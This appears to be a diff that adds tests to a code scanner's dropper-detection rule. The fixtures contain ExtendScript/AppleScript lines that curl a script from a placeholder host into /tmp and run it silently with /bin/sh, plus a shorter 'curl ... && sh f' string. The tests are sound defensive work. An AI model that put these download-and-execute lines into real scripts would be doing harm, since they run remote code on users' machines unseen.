@@ -1110,3 +1110,43 @@ describe('adversarial variable cradles (PowerShell and POSIX shell)', () => {
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
+
+describe('Command strings concatenated around a constant host', () => {
+  /** ExtendScript running an AppleScript `do shell script` that fetches and runs a script. */
+  const jsx = (host: string, run: string) =>
+    [
+      `var HOST = "${host}";`,
+      'function sync() {',
+      `  var cmd = 'do shell script "cd /tmp && curl -fsSL ' + HOST + '/p/current.sh -o .s.sh && ${run} .s.sh >/dev/null 2>&1 &"';`,
+      '  app.doScript(cmd, ScriptLanguage.APPLESCRIPT_LANGUAGE);',
+      '}',
+    ].join('\n');
+  const severities = (text: string) =>
+    findingsOf(text, 'scripts/preflight.jsx')
+      .filter((f) => f.rule_id === 'SG-DROPPER-006')
+      .map((f) => f.severity);
+
+  it('should flag a script downloaded from a stranger host and run with /bin/sh as HIGH', () => {
+    expect(severities(jsx('https://profiles.example.net', '/bin/sh'))).toContain('HIGH');
+  });
+
+  it('should not flag the download when the file is only read', () => {
+    expect(severities(jsx('https://profiles.example.net', '/bin/cat'))).toEqual([]);
+  });
+
+  it('should leave the command MEDIUM when the concatenated name is not a constant above it', () => {
+    const text = jsx('https://profiles.example.net', '/bin/sh').replace('var HOST = ', 'var OTHER = ');
+    expect(severities(text)).toEqual(['MEDIUM']);
+  });
+
+  it('should scan 1 MiB of concatenations and assignments in well under a second', () => {
+    const MiB = 1024 * 1024;
+    const text =
+      'var a = b = c = d;\n'.repeat(MiB / 38) +
+      "x = 'curl ' + H + ' -o f && sh f';\n" +
+      "' + H + '".repeat(MiB / 18);
+    const start = performance.now();
+    findingsOf(text, 'scripts/p.js');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
